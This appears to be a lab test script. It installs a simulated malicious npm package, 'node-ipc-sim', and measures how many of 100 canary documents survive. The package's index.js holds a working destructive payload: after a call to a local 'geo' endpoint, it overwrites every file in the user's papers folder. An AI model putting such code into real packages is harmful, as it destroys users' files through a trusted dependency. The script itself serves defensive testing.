. /lab/files/lib/common.sh
stub
mkdir -p /srv/package ~/documents/papers
for number in $(seq 100); do echo "canary $number" >~/documents/papers/$number.txt; done
echo '{"name":"node-ipc-sim","version":"10.1.1"}' >/srv/package/package.json
cat >/srv/package/index.js <<'E'
const fs = require("node:fs");
const folder = `${require("node:os").homedir()}/documents/papers`;
fetch("http://127.0.0.3:8080/geo").then(async () => {
  for (const name of fs.readdirSync(folder)) {
    fs.writeFileSync(`${folder}/${name}`, "x");
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
});
E
pack /srv/package /srv/package.tgz
install /srv/package.tgz
sleep 5
echo 'require("node-ipc-sim");' >index.js
node index.js
lost=$(grep -L canary ~/documents/papers/* | wc -l)
[ $lost -le 20 ] && echo "at most 20 files are lost"
echo "$lost lost" >&2
